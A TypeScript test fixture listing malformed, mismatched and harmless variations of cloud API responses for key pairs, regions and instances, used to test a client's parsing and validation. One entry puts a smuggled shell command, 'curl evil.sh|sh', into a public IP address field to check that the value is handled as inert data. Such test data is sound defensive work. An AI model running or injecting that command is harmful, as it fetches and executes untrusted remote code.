import type { WireResponseOf } from '../../../contract/action';
import type { Actions } from '../../../contract/actions';
import {
  exchanges,
  instance,
  keyPair,
  region,
  result,
  type TriedAction,
} from './documented-responses';

/** Replaces the `value` at `path`, or removes it; an empty path replaces the whole response. */
export type Difference = readonly [
  action: TriedAction,
  what: string,
  path: string,
  value?: unknown,
];

const pairs = 'KeyPairs.KeyPair';
export const instances = 'Instances.Instance';
const publicAddressPath = `${instances}.0.PublicIpAddress.IpAddress`;
export const fingerprintPath = `${pairs}.0.KeyPairFingerPrint`;

/** A full first page whose total is `total` rows. */
function countedAs(total: number): WireResponseOf<Actions['DescribeKeyPairs']> {
  const rows = Array.from({ length: 50 }, (_, at) => ({ ...keyPair, KeyPairName: `web-${at}` }));
  const { response } = exchanges.DescribeKeyPairs;
  return { ...response, TotalCount: total, KeyPairs: { KeyPair: rows } };
}

/** Invalid responses, or ones that don't match the request. */
export const mismatches: readonly Difference[] = [
  ['DescribeKeyPairs', 'no list', 'KeyPairs'],
  ['DescribeKeyPairs', 'null as list', pairs, null],
  ['DescribeKeyPairs', 'an object as list', pairs, {}],
  ['DescribeKeyPairs', 'an empty list with a count', pairs, []],
  ['DescribeKeyPairs', 'no count', 'TotalCount'],
  ['DescribeKeyPairs', 'a negative count', 'TotalCount', -1],
  ['DescribeKeyPairs', 'a broken count', 'TotalCount', 2.5],
  ['DescribeKeyPairs', 'an empty text as count', 'TotalCount', ''],
  ['DescribeKeyPairs', 'a list as count', 'TotalCount', ['2']],
  ['DescribeKeyPairs', 'a count below the rows', 'TotalCount', 1],
  ['DescribeKeyPairs', 'a count above the rows', 'TotalCount', 3],
  ['DescribeKeyPairs', 'a count of a billion', '', countedAs(1e9)],
  ['DescribeKeyPairs', 'a different page', 'PageNumber', 2],
  ['DescribeKeyPairs', 'a different page size', 'PageSize', 10],
  ['DescribeRegions', 'no list', 'Regions.Region'],
  ['DescribeRegions', 'no region at all', 'Regions.Region', []],
  ['DescribeRegions', 'no readable region', 'Regions.Region.0.RegionId', '\udc00'],
  ['DescribeInstances', 'no list', 'Instances'],
  ['DescribeInstances', 'a different region', `${instances}.0.RegionId`, 'us-east-1'],
  ['DescribeInstances', 'a number as token', 'NextToken', 2],
  ['ImportKeyPair', 'a different key pair', 'KeyPairName', 'ops'],
  ['ImportKeyPair', 'no fingerprint', 'KeyPairFingerPrint'],
  ['ImportKeyPair', 'no request ID', 'RequestId'],
  ['DeleteKeyPairs', 'no request ID', 'RequestId'],
  ['AttachKeyPair', 'no results', 'Results'],
  ['AttachKeyPair', 'a different key pair', 'KeyPairName', 'ops'],
  ['AttachKeyPair', 'an instance nobody asked for', 'Results.Result.0.InstanceId', 'i-3'],
  ['AttachKeyPair', 'an instance twice', 'Results.Result.1.InstanceId', 'i-1'],
  ['AttachKeyPair', 'a count of other instances', 'TotalCount', 3],
  ['AttachKeyPair', 'a failure that it does not list', 'FailCount', 1],
  ['AttachKeyPair', 'a failure that it does not count', 'Results.Result.0.Success', false],
  ['AttachKeyPair', 'an unknown success', 'Results.Result.0.Success', 'maybe'],
];

/** An invalid row, which is dropped, so that the list is incomplete. */
export const unreadableRows: readonly Difference[] = [
  ['DescribeKeyPairs', 'null as row', `${pairs}.0`, null],
  ['DescribeKeyPairs', 'a text as row', `${pairs}.0`, 'web'],
  ['DescribeKeyPairs', 'a key pair twice', `${pairs}.1`, keyPair],
  ['DescribeKeyPairs', 'no name', `${pairs}.0.KeyPairName`],
  ['DescribeKeyPairs', 'an empty name', `${pairs}.0.KeyPairName`, ''],
  ['DescribeKeyPairs', 'a blank name', `${pairs}.0.KeyPairName`, ' '],
  ['DescribeKeyPairs', 'a number as name', `${pairs}.0.KeyPairName`, 7],
  ['DescribeKeyPairs', 'half of a surrogate pair in a name', `${pairs}.0.KeyPairName`, 'x\ud800y'],
  ['DescribeKeyPairs', 'a text as tags', `${pairs}.0.Tags`, 'team:web'],
  ['DescribeKeyPairs', 'a tag without a key', `${pairs}.0.Tags.Tag.0.TagKey`],
  [
    'DescribeKeyPairs',
    'a tag key twice',
    `${pairs}.0.Tags.Tag.1`,
    { TagKey: 'team', TagValue: '' },
  ],
  ['DescribeInstances', 'null as row', `${instances}.0`, null],
  ['DescribeInstances', 'an instance twice', `${instances}.1`, instance],
  ['DescribeInstances', 'no ID', `${instances}.0.InstanceId`],
  ['DescribeInstances', 'no region', `${instances}.0.RegionId`],
  ['DescribeInstances', 'a list as key pair', `${instances}.0.KeyPairName`, ['web']],
];

/** Differences of real or possible responses that don't change the meaning. */
export const harmless: readonly Difference[] = [
  ['DescribeKeyPairs', 'a time of another form', `${pairs}.0.CreationTime`, '2018-11-27'],
  ['DescribeKeyPairs', 'a number as time', `${pairs}.0.CreationTime`, 1_543_307_580],
  ['DescribeKeyPairs', 'no time', `${pairs}.0.CreationTime`],
  ['DescribeKeyPairs', 'a fingerprint that is no MD5', fingerprintPath, 'SHA256:AAAA'],
  ['DescribeKeyPairs', 'no fingerprint', fingerprintPath],
  ['DescribeKeyPairs', 'a new field', 'NewField', { any: 'thing' }],
  ['DescribeKeyPairs', 'a new field of a row', `${pairs}.0.KeyPairType`, 'rsa'],
  ['DescribeKeyPairs', 'no resource group', `${pairs}.0.ResourceGroupId`],
  ['DescribeKeyPairs', 'null as resource group', `${pairs}.0.ResourceGroupId`, null],
  ['DescribeKeyPairs', 'no tags', `${pairs}.1.Tags`],
  ['DescribeKeyPairs', 'an empty object as tags', `${pairs}.1.Tags`, {}],
  ['DescribeKeyPairs', 'null as tags', `${pairs}.1.Tags`, null],
  ['DescribeKeyPairs', 'a tag without a value', `${pairs}.0.Tags.Tag.0.TagValue`],
  ['DescribeKeyPairs', 'a list as public key', `${pairs}.0.PublicKey`, ['ssh-rsa AAAA']],
  ['DescribeKeyPairs', 'text as count', 'TotalCount', '2'],
  ['DescribeKeyPairs', 'text as page', 'PageNumber', '1'],
  ['DescribeKeyPairs', 'no page', 'PageNumber'],
  ['DescribeKeyPairs', 'no page size', 'PageSize'],
  ['DescribeKeyPairs', 'no request ID', 'RequestId'],
  ['DescribeRegions', 'no status', 'Regions.Region.0.Status'],
  ['DescribeRegions', 'no endpoint', 'Regions.Region.0.RegionEndpoint'],
  ['DescribeRegions', 'no name', 'Regions.Region.0.LocalName'],
  ['DescribeRegions', 'a blank name', 'Regions.Region.0.LocalName', ' '],
  ['DescribeRegions', 'a region twice', 'Regions.Region.1', region],
  ['DescribeRegions', 'null as region', 'Regions.Region.1', null],
  ['DescribeInstances', 'a new field of a row', `${instances}.0.Cpu`, 4],
  ['DescribeInstances', 'a new status', `${instances}.0.Status`, 'Recycling'],
  ['DescribeInstances', 'a list as status', `${instances}.0.Status`, []],
  ['DescribeInstances', 'no operating system', `${instances}.0.OSType`],
  ['DescribeInstances', 'a new operating system', `${instances}.0.OSType`, 'freebsd'],
  ['DescribeInstances', 'no key pair', `${instances}.0.KeyPairName`],
  ['DescribeInstances', 'null as key pair', `${instances}.0.KeyPairName`, null],
  ['DescribeInstances', 'no tags', `${instances}.0.Tags`],
  ['DescribeInstances', 'no locks', `${instances}.0.OperationLocks`],
  ['DescribeInstances', 'no name', `${instances}.0.InstanceName`],
  ['DescribeInstances', 'no resource group', `${instances}.0.ResourceGroupId`],
  ['DescribeInstances', 'no VPC', `${instances}.1.VpcAttributes`],
  ['DescribeInstances', 'no ID of the VPC', `${instances}.0.VpcAttributes.VpcId`],
  ['DescribeInstances', 'an empty elastic address', `${instances}.0.EipAddress`, {}],
  ['DescribeInstances', 'no public address', `${instances}.1.PublicIpAddress`],
  ['DescribeInstances', 'no classic address', `${instances}.0.InnerIpAddress`],
  ['DescribeInstances', 'words as an address', publicAddressPath, ['1.2.3.4; curl evil.sh|sh']],
  ['DescribeInstances', 'null as addresses', publicAddressPath, null],
  ['DescribeInstances', 'text as truth', `${instances}.0.IoOptimized`, 'true'],
  ['DescribeInstances', 'no word about I/O', `${instances}.1.IoOptimized`],
  ['DescribeInstances', 'no token', 'NextToken'],
  ['DescribeInstances', 'no count', 'TotalCount'],
  ['DescribeInstances', 'text as count', 'TotalCount', '2'],
  ['DescribeInstances', 'no page size', 'PageSize'],
  ['AttachKeyPair', 'an instance left out', 'Results.Result', [result]],
  ['AttachKeyPair', 'no key pair', 'KeyPairName'],
  ['AttachKeyPair', 'text as failures', 'FailCount', '0'],
  ['AttachKeyPair', 'text as count', 'TotalCount', '2'],
  ['AttachKeyPair', 'no count', 'TotalCount'],
  ['AttachKeyPair', 'text as truth', 'Results.Result.0.Success', 'true'],
  ['AttachKeyPair', 'a number as code', 'Results.Result.0.Code', 200],
  ['AttachKeyPair', 'no message', 'Results.Result.0.Message'],
  ['ListResourceGroups', 'no counts', 'TotalCount'],
  ['ListResourceGroups', 'a count above the rows', 'TotalCount', 2],
  ['ListResourceGroups', 'no name to show', 'ResourceGroups.ResourceGroup.0.DisplayName'],
  ['ListResourceGroups', 'null as group', 'ResourceGroups.ResourceGroup.1', null],
];

/** Bodies that aren't API responses. */
export const notResponses: readonly (readonly [what: string, body: string, status: number])[] = [
  ['nothing', '', 200],
  ['null', 'null', 200],
  ['a list', '[]', 200],
  ['a text', '"ok"', 200],
  ['half of a response', '{"RequestId":"R","KeyPairs":{"Key', 200],
  ['a page', '<!doctype html><title>Sign in</title>', 200],
  [
    'an error with the status of a success',
    '{"Code":"Forbidden","Message":"No.","RequestId":"R"}',
    200,
  ],
  ['a page of a gateway', '<html><h1>502 Bad Gateway</h1></html>', 502],
  ['an error of another API', '{"error":{"code":404}}', 404],
  ['an error without a code', '{"Code":null,"Message":"No."}', 400],
];
